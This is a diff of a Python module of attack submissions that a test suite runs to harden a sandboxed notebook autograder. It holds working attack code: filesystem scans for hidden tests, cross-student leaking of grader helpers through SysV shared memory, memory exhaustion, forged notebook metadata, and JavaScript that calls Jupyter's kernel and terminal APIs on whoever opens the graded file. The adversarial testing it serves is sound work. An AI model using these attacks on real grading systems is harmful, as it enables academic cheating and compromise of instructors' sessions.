@@ -10,8 +10,10 @@
 * ``json`` (optional): a function that edits the submitted notebook's raw JSON (a dict) after
   the cells are filled in, for attacks that live in the file rather than in the code.
 
-Each attack would have worked against a naive nbgrader setup (student code and hidden tests in
-one kernel, the kernel running with the grader's files and permissions).  Against the course's
+Most attacks would have worked against a naive nbgrader setup (student code and hidden tests in
+one kernel, the kernel running with the grader's files and permissions); the others aim at this
+grader's own machinery (the helpers a probe lends, the warm sandbox shared by students one after
+another, the wire protocol, notebook repair, the feedback step).  Against the course's
 trusted grading (student code in a sandbox, verdicts outside it) every attack must earn 0, leave
 the course and the repository untouched, leave no process behind, and change nobody else's grade:
 ``tests/test_attacks.py`` grades them all through ``pipeline.grade``.
@@ -20,7 +22,6 @@ Attack code is plain student code: it runs inside the sandbox, so it cannot impo
 this repository; whatever it needs is in the cell's source.
 """
 import base64
-import json
 
 from tarea2_grader.examples import SOURCE
 from tarea2_grader.cells import stub_sources
@@ -90,10 +91,17 @@ def _b64(texto):
 ATTACKS = []
 
 
-def ataque(name, description, cells, json_edit=None):
+def ataque(name, description, cells, json_edit=None, known_gap=None):
+    """Append one attack record to ``ATTACKS``.
+
+    ``known_gap``: why the attack still earns points (reported; its test is a strict xfail, so it
+    turns into a failure the day the gap is closed and the marker must go).
+    """
     record = {"name": name, "description": description, "cells": cells}
     if json_edit is not None:
         record["json"] = json_edit
+    if known_gap:
+        record["known_gap"] = known_gap
     ATTACKS.append(record)
 
 
@@ -191,7 +199,9 @@ def celu(T, alpha=1.0, gradient=False):
         return _derivadas(lambda X, A=torch.as_tensor(alpha, dtype=T.dtype):
                           torch.where(X > 0, X, A * torch.expm1(X / A)), T, alpha)
     return torch.clamp(T, min=0) + torch.clamp(alpha * (torch.exp(T / alpha) - 1), max=0)
-'''})
+'''}, known_gap="the autograd ban lives in the student's own process: a reference to torch's engine "
+                 "taken before the probe (or a new _ImperativeEngine) evades it; the outputs are still "
+                 "judged outside, so what it earns is the value of correct derivatives, not a forged verdict")
 
 
 # 3. The probe lends the reference network to backward's test: find it up the call stack.
@@ -664,7 +674,7 @@ import os
 import time
 
 _encontrados = {}
-_limite = time.time() + 8
+_limite = time.time() + 4
 for _raiz, _dirs, _archivos in os.walk("/"):
     _dirs[:] = [d for d in _dirs if not (_raiz == "/" and d in ("proc", "sys", "dev"))]
     for _a in ("ayudas.py", "refs.py", "hidden.py", "tarea2.ipynb", "probes.py"):
@@ -675,7 +685,7 @@ for _raiz, _dirs, _archivos in os.walk("/"):
                     _texto = fh.read()
             except OSError:
                 continue
-            if "RedDeReferencia" in _texto or "PRUEBAS" in _texto or "BEGIN HIDDEN TESTS" in _texto:
+            if "RedDeReferencia" in _texto or "PRUEBAS" in _texto or "evaluar(" in _texto:
                 _encontrados[_a] = _texto
     if time.time() > _limite:
         break
@@ -783,10 +793,10 @@ print("escurridizo lanzado")
 ''')})
 
 
-# 19. Memory: a huge tensor, a list that grows until it cannot, and a child that does the same.
+# 19. Memory: a huge tensor, a list that grows until it cannot, and a CELoss that never stops asking.
 ataque(
     "memoria_llena",
-    "Pide un tensor de 800 GB, llena una lista hasta agotar la memoria y deja un hijo haciendo lo mismo.",
+    "Pide un tensor de 800 GB, llena una lista hasta agotar la memoria y hace que CELoss pida memoria sin fin.",
     {"celoss": despues("celoss", r'''
 import os
 import torch
@@ -1067,7 +1077,75 @@ print("FUGA_ENTRE_ALUMNOS" if _vistos else "nada de otros alumnos", _vistos)
 ''')})
 
 
-# 26. The submitted file itself claims to be graded: outputs, execution counts, extra points.
+# 27-28. Two students who help each other: the first keeps the helpers a test lends it (correct
+# activations, CELoss, SGD) in SysV shared memory; the second, graded later in the same sandbox,
+# answers Parts 1 and 4a with them before their tests run.
+_SHM = r'''
+import ctypes
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.shmat.restype = ctypes.c_void_p
+_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
+_libc.shmdt.argtypes = (ctypes.c_void_p,)
+_CLAVE = 0x41594441  # "AYDA"
+'''
+ataque(
+    "ayudas_a_otro_alumno",
+    "grad_capa_escondida guarda en memoria compartida SysV el código que le presta el test, para otro alumno.",
+    {"capas_escondidas": _SHM + r'''
+import sys
+
+
+def _guardar(texto):
+    datos = texto.encode() + b"\0"
+    ident = _libc.shmget(_CLAVE, 1 << 20, 0o1666)
+    p = _libc.shmat(ident, None, 0)
+    ctypes.memmove(p, datos, len(datos))
+    _libc.shmdt(ctypes.c_void_p(p))
+
+
+def grad_capa_escondida(dL_dh, h_prev, W, b, f, p=None):
+    marco = sys._getframe(1)
+    while marco is not None:
+        for v in list(marco.f_locals.values()):
+            if isinstance(v, dict) and isinstance(v.get("helpers_source"), str) and v["helpers_source"]:
+                _guardar(v["helpers_source"])
+        marco = marco.f_back
+    raise NotImplementedError()
+'''})
+ataque(
+    "ayudas_de_otro_alumno",
+    "Lee de la memoria compartida las ayudas que dejó otro alumno y responde las Partes 1 y 4a con ellas.",
+    {"derivadas_codigo": despues("derivadas_codigo", _SHM + r'''
+_ROBADAS = {}
+_ident = _libc.shmget(_CLAVE, 0, 0)
+if _ident >= 0:
+    _p = _libc.shmat(_ident, None, 0o10000)  # SHM_RDONLY
+    exec(ctypes.string_at(_p).decode(), _ROBADAS)
+    _libc.shmdt(ctypes.c_void_p(_p))
+    sig, tanh, relu, swish, celu = (_ROBADAS[n] for n in ("sig", "tanh", "relu", "swish", "celu"))
+print("ayudas de otro alumno:", sorted(k for k in _ROBADAS if not k.startswith("_"))[:6])
+'''), "celoss": despues("celoss", r'''
+if _ROBADAS:
+    CELoss = _ROBADAS["CELoss"]
+'''), "sgd": despues("sgd", r'''
+if _ROBADAS:
+    class SGD(_ROBADAS["SGDReferencia"]):
+        pass
+''')})
+
+
+# 29. nbgrader's hidden-test markers in an answer: the course's feedback step chokes on them.
+ataque(
+    "romper_retroalimentacion",
+    "Escribe '### BEGIN HIDDEN TESTS' sin su END en una respuesta, para que falle la retroalimentación del curso.",
+    {"chequeo_gradiente": despues("chequeo_gradiente", r'''
+# ### BEGIN HIDDEN TESTS
+# (lo que sigue no debería verse en la retroalimentación de nadie)
+''')})
+
+
+# 30. The submitted file itself claims to be graded: outputs, execution counts, extra points.
 def _ya_calificado(nb):
     for n, cell in enumerate(nb["cells"]):
         meta = cell.get("metadata", {}).get("nbgrader", {})
@@ -1101,7 +1179,7 @@ ataque(
     {}, json_edit=_ya_calificado)
 
 
-# 27. HTML and JavaScript for whoever opens the graded notebook (formgrader, feedback).
+# 31. HTML and JavaScript for whoever opens the graded notebook (formgrader, feedback).
 ataque(
     "html_para_el_profesor",
     "Deja <script> y JavaScript en salidas y en una respuesta escrita, para quien abra la corrección.",
@@ -1113,3 +1191,16 @@ from IPython.display import HTML, Javascript, display
 display(HTML('<script>fetch("/api/kernels", {method: "POST"})//PWNED_html_salida</script>'))
 display(Javascript('fetch("/api/terminals", {method: "POST"})//PWNED_js_salida'))
 ''')})
+
+
+# 32. A notebook that nbformat reads but does not validate: "72/72" as an execution count.
+def _contador_falso(nb):
+    for cell in nb["cells"]:
+        if cell["cell_type"] == "code":
+            cell["execution_count"] = "72/72"
+
+
+ataque(
+    "contador_de_ejecucion_falso",
+    "El JSON pone '72/72' como contador de ejecución de cada celda (JSON válido, notebook inválido).",
+    {}, json_edit=_contador_falso)
